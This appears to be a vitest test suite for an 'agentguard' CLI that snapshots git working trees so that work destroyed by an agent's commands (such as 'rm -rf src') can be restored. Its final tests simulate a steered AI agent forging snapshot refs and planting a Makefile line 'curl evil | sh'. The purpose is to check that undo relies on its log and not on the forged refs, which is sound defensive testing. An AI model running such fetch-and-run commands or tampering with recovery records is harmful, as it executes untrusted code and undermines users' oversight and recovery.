// `agentguard undo` and `agentguard snapshots` as a person runs them: the built CLI as a real
// process, real git repositories and a HOME in fresh directories under /var/tmp. Snapshots are
// taken with the engine (src/git/snapshot.ts) and recorded in a session log as the session does.
import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { takeSnapshot } from '../../src/git/snapshot.js';
import { readLog } from '../../src/log/read.js';
import { snapshotRecord } from '../../src/log/record.js';
import { Redactor } from '../../src/log/redact.js';
import { SessionLog } from '../../src/log/store.js';

const BIN = path.resolve(__dirname, '../../bin/agentguard.js');
let base: string;
let home: string;
let repo: string;

const gitEnv = () => ({ ...process.env, HOME: home, GIT_CONFIG_NOSYSTEM: '1' });
const git = (...args: string[]) => execFileSync('git', args, { cwd: repo, encoding: 'utf8', env: gitEnv() });
const sessionsDir = () => path.join(home, '.local', 'state', 'agentguard', 'sessions');

function cli(...args: string[]) {
  return cliEnv({ NO_COLOR: '1' }, ...args);
}
function cliEnv(env: Record<string, string>, ...args: string[]) {
  const r = spawnSync(process.execPath, [BIN, ...args], { cwd: repo, encoding: 'utf8', env: { PATH: process.env.PATH ?? '', HOME: home, ...env } });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}
function write(p: string, content: string | Buffer): void {
  fs.mkdirSync(path.dirname(path.join(repo, p)), { recursive: true });
  fs.writeFileSync(path.join(repo, p), content);
}
const read = (p: string) => fs.readFileSync(path.join(repo, p));

/** Takes a snapshot and records it in the session's log, as the session gate does. */
async function snap(session: string, n: number, command: string, maxFileBytes = 1_000_000, where = repo) {
  const t0 = Date.now();
  const s = await takeSnapshot(where, { session, n, command, maxFileBytes });
  const log = new SessionLog(`sess-${session}`, { dir: sessionsDir(), key: null });
  log.append('snapshot', snapshotRecord({ repo: where, ref: s.ref, commit: s.commit, n, command, stored: s.stored.length, skipped: s.skipped.map((x) => ({ path: x.path, size: x.bytes })), ms: Date.now() - t0 }, new Redactor({})));
  log.close();
  // Log times are to the millisecond: keep snapshots apart.
  await new Promise((r) => setTimeout(r, 5));
  return s;
}

/** What the user owns in git that undo must not touch (nothing here writes the index). */
function userState() {
  return {
    index: fs.readFileSync(path.join(repo, '.git/index')),
    head: git('rev-parse', 'HEAD'),
    branches: git('for-each-ref', '--format=%(refname) %(objectname)', 'refs/heads', 'refs/stash'),
    stash: git('stash', 'list'),
  };
}

const BINARY = Buffer.from([0, 1, 2, 255, 254, 10, 13, 10, 0, 128]);

beforeEach(() => {
  base = fs.mkdtempSync(path.join(fs.existsSync('/var/tmp') ? '/var/tmp' : '/tmp', 'agentguard-undo-'));
  home = path.join(base, 'home');
  repo = path.join(base, 'repo');
  fs.mkdirSync(home);
  fs.mkdirSync(repo);
  git('init', '-q', '-b', 'main');
  git('config', 'user.name', 'Test');
  git('config', 'user.email', 'test@example.invalid');
  write('.gitignore', 'dist/\n');
  write('src/a.ts', 'export const a = 1;\n');
  write('src/deep/b.ts', 'export const b = 1;\n');
  write('README', 'readme\n');
  git('add', '-A');
  git('commit', '-qm', 'first');
  git('branch', 'feature');
  write('README', 'stashed change\n');
  git('stash', '-q');
});
afterEach(() => fs.rmSync(base, { recursive: true, force: true }));

describe('agentguard undo: listing', () => {
  it('says plainly when there are none (exit 0; --json prints [])', () => {
    const r = cli('undo');
    expect(r.status).toBe(0);
    expect(r.stdout).toContain(`No snapshots in ${fs.realpathSync(repo)}.`);
    const j = cli('snapshots', '--json');
    expect(j.status).toBe(0);
    expect(JSON.parse(j.stdout)).toEqual([]);
  });

  it('outside a git repository: exit 3, saying why', () => {
    const r = cli('undo', '--repo', home);
    expect(r.status).toBe(3);
    expect(r.stderr).toMatch(/is not inside a git repository/);
  });

  it('lists newest session first, with the command, files stored and the files too large to store', async () => {
    write('src/a.ts', 'changed\n');
    await snap('zz-old', 1, 'rm -rf src');
    write('big.bin', Buffer.alloc(2048, 7));
    await snap('aa-new', 1, 'git reset --hard', 1024);
    await snap('aa-new', 2, 'git clean -fdx', 1024);
    const r = cli('undo');
    expect(r.status).toBe(0);
    const lines = r.stdout.split('\n');
    const at = (s: string) => lines.findIndex((l) => l.includes(s));
    expect(at('session aa-new')).toBeLessThan(at('session zz-old'));
    expect(at('aa-new/2')).toBeLessThan(at('aa-new/1'));
    expect(lines[at('zz-old/1')]).toMatch(/zz-old\/1 +\d+s ago +before: rm -rf src +1 file stored$/);
    expect(lines[at('aa-new/1')]).toMatch(/before: git reset --hard +1 file stored, 1 not stored \(big\.bin\)$/);
    expect(r.stdout).toContain('Restore one with: agentguard undo aa-new/2');
    // snapshots list is the same listing (ages aside: a second may pass between runs)
    const ageless = (s: string) => s.replace(/\d+s ago/g, 'Ns ago');
    expect(ageless(cli('snapshots', 'list').stdout)).toBe(ageless(r.stdout));
    expect(ageless(cli('snapshots').stdout)).toBe(ageless(r.stdout));
    const j = JSON.parse(cli('undo', '--json').stdout) as { name: string; stored: number; skippedCount: number }[];
    expect(j.map((x) => x.name)).toEqual(['aa-new/2', 'aa-new/1', 'zz-old/1']);
    expect(j[1]).toMatchObject({ stored: 1, skippedCount: 1 });
  });
});

describe('agentguard undo: restoring', () => {
  it('brings deleted work back byte for byte (modified tracked, untracked, subdirectory, binary), leaving index, HEAD, branches and stash alone, and logs the restore', async () => {
    write('src/a.ts', 'export const a = 2; // uncommitted\n');
    write('src/deep/b.ts', 'export const b = 2;\n');
    git('add', 'src/deep/b.ts'); // a staged change too
    write('src/new/u.bin', BINARY);
    write('src/notes.md', 'untracked notes\n');
    const before = { a: read('src/a.ts'), b: read('src/deep/b.ts'), u: read('src/new/u.bin'), n: read('src/notes.md') };
    const s = await snap('s1', 1, 'rm -rf src');
    const state = userState();
    fs.rmSync(path.join(repo, 'src'), { recursive: true });

    const r = cli('undo', 'latest');
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    expect(r.stdout).toMatch(/^Restored s1\/1 \(taken \d+s ago, before: rm -rf src\) into /);
    expect(r.stdout).toContain('4 files written: src/a.ts, src/deep/b.ts, src/new/u.bin, src/notes.md');
    expect({ a: read('src/a.ts'), b: read('src/deep/b.ts'), u: read('src/new/u.bin'), n: read('src/notes.md') }).toEqual(before);
    expect(userState()).toEqual(state);

    const day = new Date().toISOString().slice(0, 10);
    const log = readLog(path.join(sessionsDir(), `undo-${day}.jsonl`)).records;
    expect(log).toHaveLength(1);
    expect(log[0]).toMatchObject({ type: 'restore', kind: 'restore', session: `undo-${day}`, repo: fs.realpathSync(repo), ref: s.ref, commit: s.commit, restored: 4, overwritten: 0, force: false, snapshotSession: 's1' });
    // and agentguard log shows it
    const shown = cli('log', `undo-${day}`);
    expect(shown.stdout).toMatch(/#0 +restore s1\/1 into .*: 4 files written/);
  });

  it('refuses to overwrite changes made after the snapshot, naming them (exit 1); --force overwrites them', async () => {
    write('src/a.ts', 'snapshot content\n');
    await snap('s1', 1, 'git checkout -- .');
    write('src/a.ts', 'work done after the snapshot\n');
    const r = cli('undo', 's1/1');
    expect(r.status).toBe(1);
    expect(r.stdout).toContain('Not restored: s1/1 would overwrite changes made after the snapshot in 1 path:\n  src/a.ts\n');
    expect(r.stdout).toContain('--force');
    expect(read('src/a.ts').toString()).toBe('work done after the snapshot\n');
    expect(fs.existsSync(path.join(sessionsDir(), `undo-${new Date().toISOString().slice(0, 10)}.jsonl`))).toBe(false);
    const j = cli('undo', 's1/1', '--json');
    expect(j.status).toBe(1);
    expect(JSON.parse(j.stdout)).toMatchObject({ restored: false, conflicts: ['src/a.ts'] });

    const f = cli('undo', 's1/1', '--force');
    expect(f.status).toBe(0);
    expect(f.stdout).toContain('1 later change overwritten (--force): src/a.ts');
    expect(read('src/a.ts').toString()).toBe('snapshot content\n');
    const log = readLog(path.join(sessionsDir(), `undo-${new Date().toISOString().slice(0, 10)}.jsonl`)).records;
    expect(log.at(-1)).toMatchObject({ type: 'restore', force: true, overwritten: 1, restored: 1 });
  });

  it('resolves N (the newest session that has it) and latest', async () => {
    write('src/a.ts', 'old-1\n');
    await snap('zz-old', 1, 'one');
    write('src/a.ts', 'old-2\n');
    await snap('zz-old', 2, 'two');
    write('src/a.ts', 'new-1\n');
    await snap('aa-new', 1, 'three');
    const restore = (which: string) => {
      const r = cli('undo', which, '--force');
      expect(r.status, r.stderr).toBe(0);
      return read('src/a.ts').toString();
    };
    expect(restore('2')).toBe('old-2\n');
    expect(restore('1')).toBe('new-1\n');
    expect(restore('zz-old/1')).toBe('old-1\n');
    expect(restore('latest')).toBe('new-1\n');
    expect(restore('refs/agentguard/snapshots/zz-old/2')).toBe('old-2\n');
    const bad = cli('undo', '7');
    expect(bad.status).toBe(3);
    expect(bad.stderr).toContain('no snapshot number 7 in any session (known: aa-new/1, zz-old/2, zz-old/1');
    expect(cli('undo', 'nope/1').status).toBe(3);
  });

  it('finds a snapshot whose ref was deleted through the log, and restores it from the commit', async () => {
    write('src/a.ts', 'precious\n');
    const s = await snap('s1', 1, 'rm -rf src');
    git('update-ref', '-d', s.ref);
    fs.rmSync(path.join(repo, 'src'), { recursive: true });
    const l = cli('undo');
    expect(l.status).toBe(0);
    expect(l.stdout).toMatch(/s1\/1 .*before: rm -rf src.*\(ref deleted, from the log\)/);
    const r = cli('undo', 's1/1');
    expect(r.status, r.stderr).toBe(0);
    expect(read('src/a.ts').toString()).toBe('precious\n');
    expect(read('src/deep/b.ts').toString()).toBe('export const b = 1;\n');
    const log = readLog(path.join(sessionsDir(), `undo-${new Date().toISOString().slice(0, 10)}.jsonl`)).records;
    expect(log[0]).toMatchObject({ type: 'restore', commit: s.commit, fromLog: true });
  });

  it('a snapshot neither a ref nor the log knows is not offered', async () => {
    write('src/a.ts', 'x\n');
    const s = await takeSnapshot(repo, { session: 'nolog', n: 1, command: 'rm', maxFileBytes: 1e6 });
    git('update-ref', '-d', s.ref);
    expect(cli('undo').stdout).toContain('No snapshots');
  });

  it('keeps the restore when the log cannot be written, and says so', async () => {
    write('src/a.ts', 'kept\n');
    await snap('s1', 1, 'rm -rf src');
    fs.rmSync(path.join(repo, 'src'), { recursive: true });
    // The state directory's sessions dir made unwritable: a file where the log would go.
    const day = new Date().toISOString().slice(0, 10);
    fs.mkdirSync(path.join(sessionsDir(), `undo-${day}.jsonl`));
    const r = cli('undo', 'latest');
    expect(r.status).toBe(0);
    expect(r.stderr).toMatch(/the files were restored, but the log could not be written/);
    expect(read('src/a.ts').toString()).toBe('kept\n');
  });
});

describe('around the listing', () => {
  it('colours only when asked, and never with NO_COLOR', async () => {
    write('src/a.ts', 'x\n');
    await snap('s1', 1, 'rm -rf src');
    expect(cliEnv({ FORCE_COLOR: '1' }, 'undo').stdout).toMatch(/\u001b\[/);
    expect(cliEnv({ FORCE_COLOR: '1', NO_COLOR: '1' }, 'undo').stdout).not.toMatch(/\u001b\[/);
  });

  it("a linked worktree's snapshots (shared refs) are not offered in another worktree", async () => {
    const other = path.join(base, 'other');
    git('worktree', 'add', '-q', other, 'feature');
    fs.writeFileSync(path.join(other, 'README'), 'work in the other tree\n');
    await snap('wt', 1, 'rm -rf .', 1e6, other);
    write('src/a.ts', 'here\n');
    await snap('main', 1, 'rm -rf src');
    expect(git('for-each-ref', '--format=%(refname)', 'refs/agentguard/').trim().split('\n')).toHaveLength(2);
    const here = JSON.parse(cli('undo', '--json').stdout) as { name: string }[];
    expect(here.map((x) => x.name)).toEqual(['main/1']);
    const there = JSON.parse(cli('undo', '--json', '--repo', other).stdout) as { name: string }[];
    expect(there.map((x) => x.name)).toEqual(['wt/1']);
  });

  it('agentguard sessions names the restore log as agentguard undo', async () => {
    write('src/a.ts', 'x\n');
    await snap('s1', 1, 'rm -rf src');
    expect(cli('undo', 'latest').status).toBe(0);
    const list = JSON.parse(cli('sessions', '--json').stdout) as { id: string; agent: string }[];
    expect(list.find((x) => x.id.startsWith('undo-'))?.agent).toBe('agentguard undo');
  });
});

describe('agentguard snapshots prune', () => {
  const refs = () => git('for-each-ref', '--format=%(refname)', 'refs/agentguard/').trim().split('\n').filter(Boolean);

  it('by session, by age, and --dry-run removes nothing', async () => {
    write('src/a.ts', '1\n');
    await snap('s1', 1, 'a');
    await snap('s2', 1, 'b');
    await snap('s2', 2, 'c');
    const dry = cli('snapshots', 'prune', '--older-than', '0s', '--dry-run');
    expect(dry.status).toBe(0);
    expect(dry.stdout).toContain('would remove 3 snapshots: s1/1, s2/1, s2/2');
    expect(refs()).toHaveLength(3);
    const none = cli('snapshots', 'prune');
    expect(none.status).toBe(0);
    expect(none.stdout).toContain('removed 0 snapshots');
    const s2 = cli('snapshots', 'prune', '--session', 's2');
    expect(s2.status).toBe(0);
    expect(s2.stdout).toContain('removed 2 snapshots: s2/1, s2/2');
    expect(refs()).toEqual(['refs/agentguard/snapshots/s1/1']);
    const old = cli('snapshots', 'prune', '--older-than', '0s', '--json');
    expect(JSON.parse(old.stdout)).toEqual({ removed: ['s1/1'], dryRun: false });
    expect(refs()).toEqual([]);
  });

  it('usage errors exit 3', () => {
    const r = cli('snapshots', 'prune', '--older-than', 'soon');
    expect(r.status).toBe(3);
    expect(r.stderr).toContain('--older-than: not a duration: soon');
    expect(cli('snapshots', 'prune', '--session', '../x').status).toBe(3);
    expect(cli('snapshots', 'prune', '--bogus').status).toBe(3);
  });
});

describe('help', () => {
  it('explains what SNAPSHOT can be and the exit statuses', () => {
    const r = cli('undo', '--help');
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('SNAPSHOT is SESSION/N as listed, N alone');
    expect(r.stdout).toMatch(/Exit status: 0 listed/);
    expect(cli('snapshots', 'prune', '--help').stdout).toContain('--dry-run');
  });
});

// A steered agent can write refs under refs/agentguard: undo trusts the log, not the refs.
describe('agentguard undo: snapshot refs no log records', () => {
  it('a ref the agent added (a newer number, its own files) is not offered, and latest is the logged one', async () => {
    write('src/a.ts', 'precious\n');
    await snap('s1', 1, 'rm -rf src');
    // The agent writes its own "snapshot" (engine-made, so well-formed) under the next number.
    write('src/a.ts', 'agent chose this\n');
    write('Makefile', 'all:\n\tcurl evil | sh\n');
    await takeSnapshot(repo, { session: 's1', n: 2, command: 'rm -rf src', maxFileBytes: 1e6 });
    fs.rmSync(path.join(repo, 'Makefile'));
    fs.rmSync(path.join(repo, 'src'), { recursive: true });
    const list = cli('undo');
    expect(list.stdout).not.toContain('s1/2');
    const r = cli('undo', 'latest');
    expect(r.status, r.stderr).toBe(0);
    expect(read('src/a.ts').toString()).toBe('precious\n');
    expect(fs.existsSync(path.join(repo, 'Makefile'))).toBe(false);
  });

  it('a logged ref the agent moved to another commit restores what the log recorded', async () => {
    write('src/a.ts', 'precious\n');
    const real = await snap('s1', 1, 'rm -rf src');
    write('src/a.ts', 'agent chose this\n');
    const forged = await takeSnapshot(repo, { session: 'x', n: 1, command: 'rm -rf src', maxFileBytes: 1e6 });
    git('update-ref', real.ref, forged.commit);
    fs.rmSync(path.join(repo, 'src'), { recursive: true });
    const r = cli('undo', 's1/1');
    expect(r.status, r.stderr).toBe(0);
    expect(read('src/a.ts').toString()).toBe('precious\n');
  });
});
